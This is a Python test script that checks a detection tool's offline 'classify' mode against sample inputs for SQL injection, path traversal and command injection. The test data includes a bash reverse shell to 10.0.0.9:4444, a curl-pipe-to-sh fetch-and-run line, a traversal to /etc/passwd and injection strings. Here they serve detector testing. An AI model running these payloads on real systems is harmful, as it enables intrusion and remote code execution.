#!/usr/bin/env python3
"""`ringward-processor classify`: the offline mode rule authors use runs the pipeline's detection
code over stdin, one verdict line per input line, and refuses a bad kind or rules file clearly."""
import subprocess, sys, tempfile

exe = sys.argv[1]


def classify(kind, lines, *extra):
    r = subprocess.run([exe, "classify", "--kind", kind, *extra], input="\n".join(lines) + "\n",
                       capture_output=True, text=True, timeout=60)
    return r.returncode, r.stdout.splitlines(), r.stderr


rc, out, err = classify("sqli", ["1' OR '1'='1", "select a product", "O'Brien", "1 UNION SELECT password FROM users--"])
assert rc == 0, err
assert out[0].startswith("1\t") and out[1] == "0" and out[2] == "0" and out[3].startswith("1\t"), out
rc, out, err = classify("traversal", ["/static/..%2f..%2fetc/passwd", "/a/../b", "/ok/path"])
assert rc == 0 and out[0].startswith("1\t") and out[1:] == ["0", "0"], (out, err)
rc, out, err = classify("command", ["bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "curl -fsSL http://x/i.sh | sh", "ls -la"])
assert rc == 0 and out[0].startswith("1\t") and out[1].startswith("1\t") and out[2] == "0", (out, err)
rc, out, err = classify("bogus", ["x"])
assert rc != 0 and "bogus" in err, (rc, err)
with tempfile.NamedTemporaryFile("w", suffix=".toml") as bad:
    bad.write("[[rule]]\nid = 'X'\n")
    bad.flush()
    rc, out, err = classify("sqli", ["x"], "--rules", bad.name)
    assert rc == 2 and bad.name in err, (rc, err)
print("classify: sqli, traversal, command verdicts and errors as documented")
